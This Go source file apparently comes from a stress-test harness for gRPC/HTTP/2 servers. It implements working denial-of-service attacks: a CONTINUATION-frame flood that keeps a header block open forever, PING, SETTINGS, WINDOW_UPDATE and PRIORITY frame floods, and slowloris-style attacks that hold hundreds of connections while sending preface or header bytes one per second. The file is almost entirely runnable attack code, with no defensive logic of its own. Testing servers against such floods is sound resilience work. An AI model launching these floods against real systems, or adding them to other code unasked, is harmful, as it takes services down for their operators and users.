//go:build linux

package main

import (
	"bytes"
	"context"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// continuationFlood opens a header block and never ends it, sending 1 KiB
// CONTINUATION frames of indexed fields as fast as the server reads them.
func continuationFlood(ctx context.Context, e *env) error {
	frag := bytes.Repeat([]byte{0x82}, 1024) // ":method: GET", again and again
	e.ans.unit = "CONTINUATION frames"
	return eachConn(ctx, e, rawOpts{}, func(rc *rawConn) error {
		rc.frames(func(fr *http2.Framer) {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: rc.encode(request("EmptyCall")...)})
		})
		for ctx.Err() == nil {
			rc.frames(func(fr *http2.Framer) {
				for range 16 {
					fr.WriteContinuation(1, false, frag)
				}
			})
			if err := rc.flush(); err != nil {
				return err
			}
			e.ans.sent.Add(16)
		}
		return nil
	})
}

// pingFlood sends PINGs.
func pingFlood(ctx context.Context, e *env) error {
	return floodPair(ctx, e, nil, func(rc *rawConn, fr *http2.Framer) {
		for i := range floodBatch {
			fr.WritePing(false, [8]byte{byte(i), byte(i >> 8)})
		}
	})
}

// settingsFlood sends SETTINGS frames, each changing the initial window
// (which the server must apply to every open stream) back and forth.
func settingsFlood(ctx context.Context, e *env) error {
	return floodPair(ctx, e, nil, func(rc *rawConn, fr *http2.Framer) {
		for i := range floodBatch {
			fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + uint32(i&1)}, http2.Setting{ID: http2.SettingEnablePush, Val: 0})
		}
	})
}

// windowUpdateFlood sends WINDOW_UPDATEs of 1 on the connection and on an
// open stream. 2^31 increments would overflow a window; at a few million
// frames a second that takes longer than an attack lasts.
func windowUpdateFlood(ctx context.Context, e *env) error {
	open := func(rc *rawConn) {
		rc.frames(func(fr *http2.Framer) {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: rc.encode(request("FullDuplexCall")...), EndHeaders: true})
		})
	}
	return floodPair(ctx, e, open, func(rc *rawConn, fr *http2.Framer) {
		for i := range floodBatch {
			fr.WriteWindowUpdate(uint32(i&1), 1)
		}
	})
}

// priorityFlood sends PRIORITY frames on ever new idle streams, each
// depending on the one before.
func priorityFlood(ctx context.Context, e *env) error {
	var mu sync.Mutex
	ids := map[*rawConn]uint32{}
	return floodPair(ctx, e, nil, func(rc *rawConn, fr *http2.Framer) {
		mu.Lock()
		id := ids[rc]
		mu.Unlock()
		if id == 0 || id > 1<<30 {
			id = 1
		}
		for range floodBatch {
			fr.WritePriority(id+2, http2.PriorityParam{StreamDep: id, Weight: 15})
			id += 2
		}
		mu.Lock()
		ids[rc] = id
		mu.Unlock()
	})
}

// slowPreface opens many connections and sends each one's client
// preface and SETTINGS one byte a second, round robin.
func slowPreface(ctx context.Context, e *env) error {
	n := 500
	if e.short {
		n = 200
	}
	wire := []byte(http2.ClientPreface + "\x00\x00\x00\x04\x00\x00\x00\x00\x00") // + an empty SETTINGS frame
	var conns []net.Conn
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	d := net.Dialer{Timeout: 5 * time.Second}
	for range n {
		c, err := d.DialContext(ctx, "tcp", e.addr)
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			return err
		}
		conns = append(conns, c)
	}
	closed := make([]bool, n)
	for i := 0; ctx.Err() == nil; i++ {
		for k, c := range conns {
			if closed[k] || i >= len(wire) {
				continue
			}
			c.SetWriteDeadline(time.Now().Add(time.Second))
			if _, err := c.Write(wire[i : i+1]); err != nil {
				closed[k] = true
				e.ans.add(1, 0)
			}
		}
		if !sleepCtx(ctx, time.Second) {
			break
		}
	}
	return nil
}

// slowHeaderBlock opens 100 connections, starts a header block on each
// and sends the rest of it one byte a second.
func slowHeaderBlock(ctx context.Context, e *env) error {
	const n = 100
	var conns []*rawConn
	defer func() {
		for _, rc := range conns {
			rc.close()
		}
	}()
	var block []byte
	for range n {
		rc, err := dialRaw(ctx, e.addr, e.ans, rawOpts{})
		if err != nil {
			if ctx.Err() != nil {
				return nil
			}
			return err
		}
		conns = append(conns, rc)
		if _, err := rc.awaitSettings(ctx); err != nil {
			continue
		}
		rc.frames(func(fr *http2.Framer) {
			block = rc.encode(request("EmptyCall", "x-pad", string(bytes.Repeat([]byte{'p'}, 200)))...)
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:1]})
		})
		rc.flush()
	}
	for i := 1; i < len(block) && sleepCtx(ctx, time.Second); i++ {
		for _, rc := range conns {
			rc.frames(func(fr *http2.Framer) { fr.WriteContinuation(1, i == len(block)-1, block[i:i+1]) })
			rc.flush()
		}
	}
	<-ctx.Done()
	return nil
}
